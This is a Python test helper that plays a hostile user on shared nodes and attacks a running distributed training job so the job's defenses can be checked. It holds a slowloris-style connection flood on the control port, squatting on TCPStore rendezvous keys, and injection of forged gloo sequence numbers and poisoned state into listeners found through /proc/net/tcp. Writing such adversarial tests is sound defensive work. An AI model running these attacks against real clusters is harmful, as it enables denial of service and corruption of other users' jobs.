"""The other user's attacks on a running job (tests/e2e/test_hostile_user.py runs this as
OTHER_USER with `runuser`): what anyone on the nodes and the network can do without the job's
files, bounded in count and time.

* `--control HOST:PORT`: hold `--conns` connections to the controller's control port, none of
  which ever completes a handshake (one byte every `--drip` seconds); one the server drops is
  opened again after `--reopen` seconds, so that the pressure lasts.
* `--store HOST:PORT`: claim every rendezvous key a migration of epochs 1..4 will use (cancel,
  go, layout of each rank; the joiner's gloo address keys) with forged values, again and again,
  without overwriting a value already there (compare_set on an empty key): the job must ignore
  them, never cancel or be misdirected.

* `--pairs-uid UID`: pose as a transfer pair's peer. Every TCP listener of the job's user (uid
  UID; /proc/net/tcp shows anyone every socket's owner) on a node's address (srun's listeners on
  0.0.0.0 left out) that appears after the attack starts (a
  migration's pair and the joiner's groups, gloo's listeners) is connected to at once, many
  times, each time with a guessed gloo sequence number (8 bytes, as gloo's connecting side
  sends) followed by a forged state (an RNG state and a step counter, as a manifest would
  carry them). With `--store`, it also reads every value a migration's keys hold and looks for
  the listeners' addresses in them (sockaddr bytes: port then IPv4 address).

Ends after `--seconds` or when the file `--stop` appears; writes what it did as JSON to `--out`.
"""
from __future__ import annotations

import argparse
import datetime
import json
import os
import resource
import selectors
import socket
import struct
import time


def _addr(text: str) -> tuple[str, int]:
    host, _, port = text.rpartition(":")
    return host, int(port)


def store_keys(ranks: int) -> list[str]:
    keys = []
    for epoch in range(1, 5):
        for rank in range(ranks):
            base = f"tm/e{epoch}/xfer/r{rank}/"
            keys += [base + "cancel", base + "go", base + "layout", base + "/0/0", base + "/0/1"]
    return keys


POISON = json.dumps({"rng": {"cpu": [0] * 16}, "step": 999_999, "completed": 999_999,
                     "note": "poisoned by another user"}).encode()
SEQ_GUESSES = 64  # gloo's sequence numbers are a process's pair counter: small


def listeners(uid: int) -> set[tuple[str, int]]:
    """(address, port) of every IPv4 TCP socket of `uid` in LISTEN state (/proc/net/tcp)."""
    out = set()
    try:
        lines = open("/proc/net/tcp").read().splitlines()[1:]
    except OSError:
        return out
    for line in lines:
        f = line.split()
        if len(f) < 8 or f[3] != "0A" or int(f[7]) != uid:
            continue
        hexip, hexport = f[1].split(":")
        ip = socket.inet_ntoa(struct.pack("<I", int(hexip, 16)))
        if ip != "0.0.0.0":  # srun's own I/O listeners: not a pair (gloo listens on the node's address)
            out.add((ip, int(hexport, 16)))
    return out


def sockaddr_bytes(ip: str, port: int) -> bytes:
    """The bytes of a sockaddr_in after its family: what gloo puts in the store for its listener."""
    return struct.pack(">H", port) + socket.inet_aton(ip)


def feed(target: tuple[str, int], report: dict) -> None:
    """Pose as the pair's peer: one connection per guessed sequence number, a forged state sent."""
    for seq in range(SEQ_GUESSES):
        try:
            with socket.create_connection(target, timeout=0.5) as s:
                report["pair_connects"] += 1
                s.sendall(struct.pack("<Q", seq) + struct.pack("<Q", len(POISON)) + POISON)
                report["pair_bytes_sent"] += 16 + len(POISON)
        except OSError as exc:
            report["pair_refused"] += 1
            report["pair_errors"] = (report["pair_errors"] + [f"{target}: {exc}"[:160]])[-5:]
            if isinstance(exc, ConnectionRefusedError):
                return  # gone already


def read_values(store, keys: list[str], raw_values: dict[str, bytes]) -> None:
    """Every migration key's value the store holds, as anyone reading it gets it (each key read
    once it is there); what is in them is looked at when the attack ends (`in_clear`)."""
    for k in keys:
        if k in raw_values:
            continue
        try:
            if not store.check([k]):
                continue
            raw_values[k] = store.get(k)
        except Exception:  # noqa: BLE001 - the store gone: the job ended
            return


def in_clear(raw_values: dict[str, bytes], addresses: set[tuple[str, int]]) -> list[str]:
    """The pairs' addresses (gloo's sockaddr bytes, or the address as text) found in the values."""
    return [f"{k}: {ip}:{port}" for k, raw in raw_values.items() for ip, port in addresses
            if sockaddr_bytes(ip, port) in raw or ip.encode() in raw]


def main() -> int:
    p = argparse.ArgumentParser()
    p.add_argument("--control")
    p.add_argument("--store")
    p.add_argument("--conns", type=int, default=1000)
    p.add_argument("--drip", type=float, default=3.0)
    p.add_argument("--reopen", type=float, default=2.0)
    p.add_argument("--ranks", type=int, default=3)
    p.add_argument("--pairs-uid", type=int)
    p.add_argument("--no-store-claims", dest="store_claims", action="store_false")
    p.add_argument("--seconds", type=float, default=120.0)
    p.add_argument("--stop", required=True)
    p.add_argument("--out", required=True)
    args = p.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, args.conns + 256)), hard))
    end = time.monotonic() + args.seconds
    report = {"opened": 0, "refused": 0, "dropped_by_server": 0, "most_open": 0, "store_claims": 0,
              "store_errors": [], "drops_within_s": [], "pair_targets": [], "pair_connects": 0, "pair_refused": 0,
              "pair_bytes_sent": 0, "pair_errors": [], "store_values_read": {}, "addresses_in_clear": []}
    baseline = listeners(args.pairs_uid) if args.pairs_uid is not None else set()
    seen_listeners: set[tuple[str, int]] = set(baseline)
    raw_values: dict[str, bytes] = {}

    store = None
    keys = store_keys(args.ranks)
    if args.store:
        import torch.distributed as dist
        host, port = _addr(args.store)
        store = dist.TCPStore(host, port, is_master=False, wait_for_workers=False,
                              timeout=datetime.timedelta(seconds=5))

    sel = selectors.DefaultSelector()
    opened_at: dict[socket.socket, float] = {}
    reopen_at: list[float] = []

    def open_one() -> None:
        try:
            s = socket.create_connection(_addr(args.control), timeout=2)
        except OSError:
            report["refused"] += 1
            reopen_at.append(time.monotonic() + args.reopen)
            return
        s.setblocking(False)
        sel.register(s, selectors.EVENT_READ)
        opened_at[s] = time.monotonic()
        report["opened"] += 1

    if args.control:
        for _ in range(args.conns):
            open_one()
    with open(args.out + ".started", "w") as f:  # the test drains the node once the flood is on
        json.dump({"opened": report["opened"]}, f)
    next_drip = time.monotonic() + args.drip
    next_claim = 0.0
    while time.monotonic() < end and not os.path.exists(args.stop):
        for key, _ in sel.select(timeout=0.1 if args.control else 0.01):  # a pair is raced for
            s = key.fileobj
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if not data:  # the server dropped it
                report["dropped_by_server"] += 1
                report["drops_within_s"].append(round(time.monotonic() - opened_at.pop(s), 2))
                sel.unregister(s)
                s.close()
                reopen_at.append(time.monotonic() + args.reopen)
        now = time.monotonic()
        for t in [t for t in reopen_at if t <= now]:
            reopen_at.remove(t)
            open_one()
        report["most_open"] = max(report["most_open"], len(opened_at))
        if now >= next_drip:  # one byte: never a whole nonce and frame
            next_drip = now + args.drip
            for s in list(opened_at):
                try:
                    s.send(b"\x00")
                except OSError:
                    pass
        if args.pairs_uid is not None:
            fresh = listeners(args.pairs_uid) - seen_listeners
            seen_listeners |= fresh
            for target in sorted(fresh):
                report["pair_targets"].append(f"{target[0]}:{target[1]}")
                feed(target, report)
            if store is not None:
                read_values(store, keys, raw_values)
        if store is not None and args.store_claims and now >= next_claim:
            next_claim = now + 0.2
            for k in keys:
                try:
                    store.compare_set(k, b"", b"1")  # only where nothing is yet: never a genuine value
                    report["store_claims"] += 1
                except Exception as exc:  # noqa: BLE001 - the store gone (the job ended): report it
                    report["store_errors"].append(str(exc)[:200])
                    store = None
                    break
    for s in list(opened_at):
        s.close()
    report["drops_within_s"] = sorted(report["drops_within_s"])
    report["store_values_read"] = {k: len(v) for k, v in raw_values.items()}
    report["addresses_in_clear"] = in_clear(raw_values, seen_listeners)
    # control for that search: the same bytes gloo would write, were they in clear, are found
    report["search_control"] = bool(in_clear({"x": b"\x02\x00" + sockaddr_bytes("127.0.0.9", 4242)},
                                             {("127.0.0.9", 4242)}))
    with open(args.out, "w") as f:
        json.dump(report, f)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
